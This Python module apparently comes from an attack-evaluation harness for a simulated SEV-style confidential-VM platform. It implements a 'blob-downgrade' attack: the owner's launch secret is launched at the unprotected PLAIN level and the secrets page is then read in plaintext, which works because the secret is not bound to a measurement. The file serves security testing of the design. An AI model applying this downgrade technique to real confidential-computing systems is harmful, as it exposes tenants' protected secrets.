"""blob-downgrade: take the owner's launch secret (the blob the judge hands the host for
the victim's launch, ``ctx.fresh_secret_blob()``) and launch the public image with it at
``plain`` instead of the run's level, then READ_PAGE the secrets page (0x2000: u64 length,
then the secret) in plaintext.

Works because the SEV-style launch secret is wrapped to the platform's launch key only and
"never checked against a measurement" (docs/attestation.md): the TEE opens it at
ADD_PAGES at any level, so the owner's "releases only to the launch digest it predicts
for the run's level" (docs/attacks.md) does not hold on this path.  One owner release, no
exit, no policy ever runs: nothing to detect."""
from __future__ import annotations

import struct
import sys

from tvmm.abi.types import Level
from tvmm.host.hypervisor import HonestHypervisor
from tvmm_tools.attacks.base import Attack, AttackContext, Outcome

SECRETS_GPA = 0x2000


class BlobDowngrade(Attack):
    name = "blob-downgrade"
    summary = "launch the owner's secret blob at plain and read the secrets page"
    victims = ()
    kind = "confidentiality"

    def run(self, ctx: AttackContext) -> Outcome:
        notes = {}
        hosts = []
        for level in (Level.PLAIN,):
            blob = ctx.fresh_secret_blob()
            if not blob:
                notes[level.value] = "owner refused"
                continue
            host = ctx.host(HonestHypervisor)
            try:
                host.launch(ctx.image, level, ctx.memory, secret_blob=blob)
            except Exception as e:  # noqa: BLE001
                notes[level.value] = f"launch failed: {type(e).__name__}: {e}"[:200]
                continue
            hosts.append(host)
            page = ctx.client.read_page(host.vm, SECRETS_GPA)
            data = page.data if hasattr(page, "data") else page
            n = struct.unpack_from("<Q", data)[0]
            notes[level.value] = f"secrets page len={n} bytes={data[8:16].hex()}"
            if level == Level.PLAIN and 0 < n <= 64:
                return Outcome(guess=data[8:8 + n], hosts=hosts,
                               notes={**notes, "detail": str(notes)})
        return Outcome(hosts=hosts, notes={**notes, "detail": str(notes)})
